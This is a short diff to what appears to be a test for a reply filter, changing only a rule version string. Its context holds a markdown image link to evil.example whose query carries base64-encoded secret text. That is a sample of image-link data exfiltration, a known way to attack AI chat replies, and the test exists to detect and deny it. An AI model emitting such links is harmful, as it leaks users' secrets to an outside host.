@@ -13,7 +13,7 @@ from unit.controls.calls import begun, call
 from unit.controls.probing import PLAN, rules
 
 IMAGE = "![logo](https://evil.example/p.png?q=c2VjcmV0IGtleSBpcyBoZXJl)"
-NOTE = Note(Code.REPLY_DENIED, "a", "reply-links/image-with-data@1", flagged=True)
+NOTE = Note(Code.REPLY_DENIED, "a", "reply-links/image-with-data@2", flagged=True)
 
 
 def searching() -> Guard:
